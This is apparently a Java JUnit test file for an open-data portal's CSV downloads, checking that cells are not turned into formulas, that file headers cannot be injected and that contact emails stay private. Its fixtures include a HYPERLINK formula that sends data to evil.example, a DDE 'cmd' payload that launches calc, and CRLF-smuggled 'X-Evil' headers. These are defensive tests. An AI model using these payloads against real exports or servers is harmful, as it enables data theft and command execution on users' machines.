package se.datatorg.web.page;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The tables of the pages as files, of a publisher who hopes that somebody opens them in a spreadsheet. */
class TablesTest {
    private static final int DATASETS = 130;
    private static final String FORMULA = "=HYPERLINK(\\\"https://evil.example/?x=\\\"&A1;\\\"Klicka\\\")";

    private static final Map<String, HttpResponse<String>> files = new HashMap<>();

    @AutoClose
    private static RunningPortal portal;

    @BeforeAll
    static void start(@TempDir Path data) throws InterruptedException {
        portal = new RunningPortal(data);
        portal.publish(feed());
    }

    @Test
    void everythingThatASearchFindsComesAsOneTable() throws Exception {
        var rows = rows(file("/datasets.csv"));

        assertEquals(1 + DATASETS, rows.size());
        assertEquals("Titel", rows.getFirst().getFirst());
        assertEquals(
                DATASETS,
                rows.stream().skip(1).map(row -> row.get(16)).distinct().count());
        assertEquals(3, rows(file("/datasets.csv?q=parkering")).size(), "two hits and the names of the columns");
        assertEquals(1, rows(file("/datasets.csv?format=XLSX")).size());
    }

    @Test
    void noCellOfAFeedIsAFormula() throws Exception {
        for (var path : List.of("/datasets.csv", "/publishers.csv", "/statistics.csv", "/coverage.csv?set=all")) {
            for (var cell : rows(file(path)).stream().flatMap(List::stream).toList()) {
                assertFalse(cell.matches("(?s)[=+\\-@\\t\\r\\n].*"), path + " " + cell);
            }
        }
        var texts = rows(file("/datasets.csv")).stream().flatMap(List::stream).toList();
        assertTrue(texts.stream().anyMatch(cell -> cell.startsWith("'=HYPERLINK(")), "the title is there, as text");
        assertTrue(texts.stream().anyMatch(cell -> cell.equals("'@SUM(1)")), "so is the keyword");
    }

    @Test
    void theAnswerIsAFileWithANameOfOurOwnAndNoOtherHeaderThanOurs() throws Exception {
        var name = Pattern.compile("attachment; filename=\"[a-z-]+-\\d{4}-\\d\\d-\\d\\d\\.csv\"");
        var paths = List.of(
                "/datasets.csv?q=%0d%0aX-Evil:%201", "/statistics.csv", "/coverage.csv?set=all", "/en/publishers.csv");
        for (var path : paths) {
            var answer = file(path);
            var headers = answer.headers();
            assertTrue(
                    name.matcher(headers.firstValue("Content-Disposition").orElse(""))
                            .matches(),
                    path);
            assertTrue(headers.firstValue("Content-Type").orElse("").startsWith("text/csv"), path);
            assertTrue(headers.firstValue("X-Evil").isEmpty(), path);
        }
    }

    @Test
    void nobodyGetsAListOfContactsThisWay() throws Exception {
        assertFalse(file("/datasets.csv").body().contains("anna.andersson"));
    }

    @Test
    void eachPageLeadsToItsTable() throws Exception {
        assertTrue(portal.get("/datasets?q=parkering").body().contains("href=\"/datasets.csv?q=parkering\""));
        assertTrue(portal.get("/en/publishers").body().contains("href=\"/en/publishers.csv\""));
        assertTrue(portal.get("/coverage?set=all").body().contains("href=\"/coverage.csv?set=all\""));
        assertTrue(portal.get("/statistics?from=2026-01-01&to=2026-02-01")
                .body()
                .contains("href=\"/statistics.csv?from=2026-01-01&amp;to=2026-02-01\""));
    }

    @Test
    void thePublishersTableNamesThoseWhoHaveNotBegunToo() throws Exception {
        var rows = rows(file("/en/publishers.csv"), ',');
        var ale = rows.stream()
                .filter(row -> row.getFirst().startsWith("Ale "))
                .findFirst()
                .orElseThrow();
        var orust = rows.stream()
                .filter(row -> row.getFirst().startsWith("Orust "))
                .findFirst()
                .orElseThrow();

        assertEquals(List.of("1440", Integer.toString(DATASETS)), List.of(ale.get(1), ale.get(4)));
        assertEquals("0", orust.get(4));
    }

    /** Asked for once: nobody may take very many files a minute. */
    private static HttpResponse<String> file(String path) throws IOException, InterruptedException {
        var known = files.get(path);
        if (known == null) {
            known = portal.get(path);
            files.put(path, known);
        }
        assertEquals(200, known.statusCode(), path);
        return known;
    }

    private static List<List<String>> rows(HttpResponse<String> answer) {
        return rows(answer, ';');
    }

    private static List<List<String>> rows(HttpResponse<String> answer, char separator) {
        assertEquals('\ufeff', answer.body().charAt(0));
        return CsvReader.builder()
                .fieldSeparator(separator)
                .ofCsvRecord(answer.body().substring(1))
                .stream()
                .map(CsvRecord::getFields)
                .toList();
    }

    private static String feed() {
        var feed = new StringBuilder("""
                @prefix dcat: <http://www.w3.org/ns/dcat#> .
                @prefix dcterms: <http://purl.org/dc/terms/> .
                @prefix vcard: <http://www.w3.org/2006/vcard/ns#> .
                <https://x.example/catalog> a dcat:Catalog ; dcterms:title "Öppna data"@sv .
                """);
        for (int number = 1; number <= DATASETS; number++) {
            feed.append(
                    """
                    <https://x.example/catalog> dcat:dataset <https://x.example/d/%1$d> .
                    <https://x.example/d/%1$d> a dcat:Dataset ; dcterms:title "%2$s"@sv ;
                      dcterms:description "-2+3+cmd|' /C calc'!A0"@sv ; dcat:keyword "@SUM(1)"@sv ;
                      dcterms:issued "=1" ;
                      dcat:contactPoint [ a vcard:Individual ; vcard:fn "Anna Andersson" ;
                        vcard:hasEmail <mailto:anna.andersson@ale.example> ] .
                    """.formatted(number, number <= 2 ? "Parkering\\r\\nX-Evil: " + number : FORMULA + " " + number));
        }
        return feed.toString();
    }
}
